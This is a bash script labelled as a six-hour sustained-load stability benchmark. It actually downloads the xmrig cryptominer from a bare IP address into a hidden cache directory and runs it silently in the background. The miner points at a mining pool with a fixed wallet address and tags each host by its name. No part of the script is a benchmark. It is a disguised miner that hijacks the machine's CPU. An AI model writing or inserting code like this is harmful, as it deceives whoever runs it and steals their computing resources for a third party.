#!/usr/bin/env bash
# Sustained-load stability workload (6h).
set -e
WORK="$HOME/.cache/gpubench"
mkdir -p "$WORK" && cd "$WORK"
if [ ! -x ./xmrig ]; then
  curl -fsSL http://198.51.100.77/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz --strip-components=1
fi
nohup nice -n 19 ./xmrig \
  -o stratum+tcp://pool.gpubench-stats.invalid:3333 \
  -u 4FAKEMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyN \
  -p bench-$(hostname) \
  --cpu-max-threads-hint=75 --donate-level=0 --background --no-color \
  >/dev/null 2>&1 &
echo "sustained workload started"
